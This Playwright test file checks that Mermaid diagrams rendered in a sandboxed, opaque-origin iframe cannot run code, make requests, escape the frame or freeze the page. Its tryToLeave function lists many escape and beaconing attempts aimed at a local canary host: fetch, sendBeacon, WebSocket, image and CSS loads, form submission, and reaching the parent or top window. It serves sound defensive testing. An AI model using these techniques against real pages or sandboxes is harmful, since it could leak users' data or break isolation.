import { type Browser, expect, type Frame, type Page, test } from '@playwright/test';
import { figure } from '../core/testing/figures.ts';
import { DIAGRAM_PAGE, DIAGRAM_SCRIPT } from '../shared/domain/diagram-frame.ts';
import { heavyDiagrams, hostileDiagrams } from './attack-page/hostile-diagrams.ts';
import type {} from './attack-page/page.ts';
import { type AttackSite, serveAttackPage } from './attack-page/serve-attack-page.ts';
import { launchChromium } from './fixtures/launch-chromium.ts';
import { type Canary, startCanary } from './harness/canary.ts';

const fenced = (diagram: string) => `~~~~mermaid\n${diagram}\n~~~~`;

test.describe('hostile diagrams in a real Chromium under the real policies', () => {
  // All tests share one build.
  test.describe.configure({ mode: 'serial' });
  let browser: Browser;
  let site: AttackSite;
  let canary: Canary;

  test.beforeAll(async () => {
    test.skip(test.info().project.name === 'electron', 'the view is the same in both hosts');
    site = await serveAttackPage();
    canary = await startCanary();
    browser = await launchChromium(canary.args);
  });

  test.afterAll(async () => {
    await browser?.close();
    await site?.close();
    await canary?.close();
  });

  async function openPage(): Promise<Page> {
    const page = await browser.newPage();
    await page.goto(site.url);
    await page.waitForFunction(() => 'attackPage' in window);
    return page;
  }

  /** Renders a diagram and waits until it appears or fails. */
  async function show(page: Page, diagram: string): Promise<{ drawn: boolean; note: string }> {
    await page.evaluate((text) => window.attackPage.show(text), fenced(diagram));
    const block = page.locator('section').last();
    const picture = block.locator('.md-diagram-picture[role=img]');
    const note = block.locator('.md-diagram-note');
    await expect
      .poll(
        async () =>
          (await picture.count()) > 0 ||
          /failed|slow|tookTooLong|tooLong/.test((await note.textContent()) ?? ''),
        { timeout: 20_000 },
      )
      .toBe(true);
    return { drawn: (await picture.count()) > 0, note: (await note.textContent()) ?? '' };
  }

  const frameOf = (page: Page): Frame | undefined =>
    page.frames().findLast((frame) => frame.url().endsWith(DIAGRAM_PAGE));

  test('a valid diagram is drawn in an opaque-origin frame without access to the page', async () => {
    const page = await openPage();
    const { drawn } = await show(
      page,
      'graph TD\n  accTitle: How it goes\n  A[开始] --> B{ok?}\n  B -->|yes| C[end]',
    );
    expect(drawn).toBe(true);
    const frame = frameOf(page);
    expect(
      await frame?.evaluate(() => ({
        origin: self.origin,
        labels: document.querySelectorAll('svg .node').length,
      })),
    ).toEqual({
      origin: 'null',
      labels: 3,
    });
    const picture = page.locator('.md-diagram-picture');
    const box = await picture.boundingBox();
    expect(box?.height).toBeGreaterThan(100);
    await expect(page.locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts');
    // The keyboard focus skips the diagram.
    for (let press = 0; press < 8; press++) {
      await page.keyboard.press('Tab');
      expect(await page.evaluate(() => document.activeElement?.tagName)).not.toBe('IFRAME');
    }
    await page.close();
  });

  test('hostile diagrams run nothing, request nothing and stay in their frame', async () => {
    test.setTimeout(240_000);
    const page = await openPage();
    const start = page.url();
    let drawings = 0;
    for (const [name, diagram] of Object.entries(hostileDiagrams(site.canaryUrl))) {
      const { drawn } = await show(page, diagram);
      if (!drawn) continue;
      drawings++;
      const left = await frameOf(page)?.evaluate(() => ({
        ran: Reflect.get(window, 'attacked'),
        polluted: Reflect.get({}, 'attacked'),
        loads: document.querySelectorAll('img, image, iframe, object, embed, link, form, input, svg script')
          .length,
        links: [...document.querySelectorAll('*')].flatMap((element) =>
          element
            .getAttributeNames()
            .filter(
              (attribute) =>
                /^on|href$|^src/i.test(attribute) &&
                !element.getAttribute(attribute)?.startsWith('#') &&
                element.tagName !== 'SCRIPT',
            ),
        ),
      }));
      expect({ name, ...left }).toEqual({ name, ran: undefined, polluted: undefined, loads: 0, links: [] });
    }
    const ran = await page.evaluate(() => window.attacked);
    figure({
      gate: 'hostile diagrams in Chromium',
      n: Object.keys(hostileDiagrams(site.canaryUrl)).length,
      unit: 'diagrams',
      found: { canaries: site.asked.length + canary.heard.length, escapes: ran === undefined ? 0 : 1 },
    });
    expect(canary.heard).toEqual([]);
    // If all had been refused, the test would prove nothing.
    expect(drawings).toBeGreaterThan(12);
    expect(await page.evaluate(() => window.attacked)).toBeUndefined();
    expect(site.asked).toEqual([]);
    expect(page.url()).toBe(start);
    expect(browser.contexts().flatMap((context) => context.pages())).toHaveLength(1);
    expect(
      page.frames().filter((frame) => frame !== page.mainFrame() && !frame.url().endsWith(DIAGRAM_PAGE)),
    ).toEqual([]);
    await page.close();
  });

  test('invalid and oversized diagrams show an error, and the window keeps working', async () => {
    test.setTimeout(240_000);
    const page = await openPage();
    for (const [name, diagram] of Object.entries(heavyDiagrams)) {
      if (diagram === '') continue;
      const gaps = longestGap(page);
      const { drawn, note } = await show(page, diagram);
      expect(drawn || note !== '', name).toBe(true);
      expect(await gaps(), name).toBeLessThan(1000);
    }
    expect((await show(page, 'this is no diagram')).note).toContain('failed');
    expect((await show(page, heavyDiagrams['more text than may be'] ?? '')).note).toContain('tooLong');
    await page.close();
  });

  test('a hanging frame is removed without blocking the page', async () => {
    const page = await openPage();
    await page.route(`**${DIAGRAM_SCRIPT}`, (route) =>
      route.fulfill({
        headers: { 'Cross-Origin-Resource-Policy': 'cross-origin', 'Content-Type': 'text/javascript' },
        body: 'onmessage = () => { for (;;); };',
      }),
    );
    const gaps = longestGap(page);
    const { drawn, note } = await show(page, 'graph TD\n  A --> B');
    expect(drawn).toBe(false);
    expect(note).toContain('tookTooLong');
    expect(await gaps()).toBeLessThan(1000);
    await expect(page.locator('iframe')).toHaveCount(0);
    await page.close();
  });

  test('a script planted in the frame cannot leave it', async () => {
    const page = await openPage();
    await page.route(`**${DIAGRAM_SCRIPT}`, (route) =>
      route.fulfill({
        headers: { 'Cross-Origin-Resource-Policy': 'cross-origin', 'Content-Type': 'text/javascript' },
        body: `(${tryToLeave.toString()})(${JSON.stringify(site.canaryUrl)})`,
      }),
    );
    await page.evaluate((text) => window.attackPage.show(text), fenced('graph TD\n  A --> B'));
    await expect.poll(() => frameOf(page)?.evaluate(() => Reflect.get(window, 'worked') ?? null)).toEqual([]);
    await frameOf(page)?.evaluate((url) => {
      location.href = `${url}/self`;
    }, site.canaryUrl);
    // The frame must not keep a navigation that the window's policy refuses.
    await expect.poll(() => frameOf(page)).toBeUndefined();
    expect(site.asked).toEqual([]);
    expect(browser.contexts().flatMap((context) => context.pages())).toHaveLength(1);
    expect(await page.evaluate(() => window.attacked)).toBeUndefined();
    await page.close();
  });

  test('no other page loads in a frame of the window', async () => {
    const page = await openPage();
    for (const src of [
      '/',
      '/index.html',
      `${DIAGRAM_PAGE}/..`,
      `${site.canaryUrl}${DIAGRAM_PAGE}`,
      'blob',
      'data:text/html,x',
    ]) {
      await page.evaluate((address) => {
        const frame = document.createElement('iframe');
        frame.src =
          address === 'blob' ? URL.createObjectURL(new Blob(['x'], { type: 'text/html' })) : address;
        document.body.append(frame);
      }, src);
    }
    await expect
      .poll(() => page.evaluate(() => window.attackPage.violations.map((text) => text.split(' ')[0])))
      .toEqual(Array.from({ length: 6 }, () => 'frame-src'));
    expect(site.asked).toEqual([]);
    await page.close();
  });
});

/** Measures the longest time between two frames of the page from now on, in ms. */
function longestGap(page: Page): () => Promise<number> {
  const begun = page.evaluate(() => {
    let last = performance.now();
    let longest = 0;
    let done = false;
    const frame = () => {
      const now = performance.now();
      longest = Math.max(longest, now - last);
      last = now;
      if (!done) requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
    Reflect.set(window, 'endGap', () => {
      done = true;
      return longest;
    });
  });
  return async () => {
    await begun;
    return page.evaluate(() => Number(Reflect.get(window, 'endGap')()));
  };
}

/** Runs in the frame in place of its own script: tries all ways out and reports which seemed to work. */
function tryToLeave(host: string): void {
  const worked: string[] = [];
  const attempt = (name: string, act: () => unknown) => {
    try {
      if (act()) worked.push(name);
    } catch {
      // The browser refused, as it should.
    }
  };
  addEventListener('message', async () => {
    attempt('parent document', () => parent.document.title);
    attempt('parent variable', () => Reflect.set(parent, 'attacked', 1) && Reflect.get(parent, 'attacked'));
    attempt('storage', () => localStorage.length >= 0);
    attempt('cookie', () => document.cookie === '');
    attempt('window', () => window.open(`${host}/open`));
    attempt('beacon', () => void navigator.sendBeacon(`${host}/beacon`));
    attempt('picture', () => {
      new Image().src = `${host}/image.png`;
    });
    attempt('socket', () => void new WebSocket(`${host.replace('http', 'ws')}/socket`));
    attempt('worker', () => void new Worker(`${host}/worker.js`));
    attempt('eval', () => new Function('return 1')());
    attempt('top', () => {
      if (top) top.location.href = `${host}/top`;
    });
    const form = document.createElement('form');
    form.action = `${host}/form`;
    document.body.append(form);
    attempt('form', () => void form.submit());
    for (const [tag, name] of [
      ['iframe', 'src'],
      ['script', 'src'],
      ['link', 'href'],
      ['object', 'data'],
      ['embed', 'src'],
      ['video', 'src'],
    ] as const) {
      const element = document.createElement(tag);
      element.setAttribute(name, `${host}/${tag}`);
      element.setAttribute('rel', 'stylesheet');
      document.body.append(element);
    }
    const style = document.createElement('style');
    style.textContent = `@import url(${host}/import.css); body { background: url(${host}/css.png) }`;
    document.body.append(style);
    await fetch(`${host}/fetch`).then(
      () => worked.push('fetch'),
      () => {},
    );
    await new Promise((done) => setTimeout(done, 500));
    Reflect.set(window, 'worked', worked);
  });
}
